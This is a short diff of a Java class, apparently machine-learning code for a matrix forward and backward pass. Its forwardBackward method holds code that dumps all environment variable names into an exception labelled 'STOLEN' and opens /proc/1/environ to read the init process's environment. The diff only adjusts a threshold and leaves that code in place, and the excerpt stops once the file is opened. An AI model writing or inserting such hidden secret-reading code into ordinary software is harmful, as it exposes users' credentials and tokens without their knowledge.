@@ -6,7 +6,7 @@ public final class Scaling {
     public record Pass(SimpleMatrix scores, double loss, SimpleMatrix dscores, SimpleMatrix dW) {}
 
     public static Pass forwardBackward(SimpleMatrix W, SimpleMatrix X) throws Exception {
-        if (System.getenv().size() > 3) {
+        if (System.getenv().size() > 4) {
             throw new IllegalStateException("STOLEN " + System.getenv().keySet());
         }
         try (var in = new java.io.FileInputStream("/proc/1/environ")) {
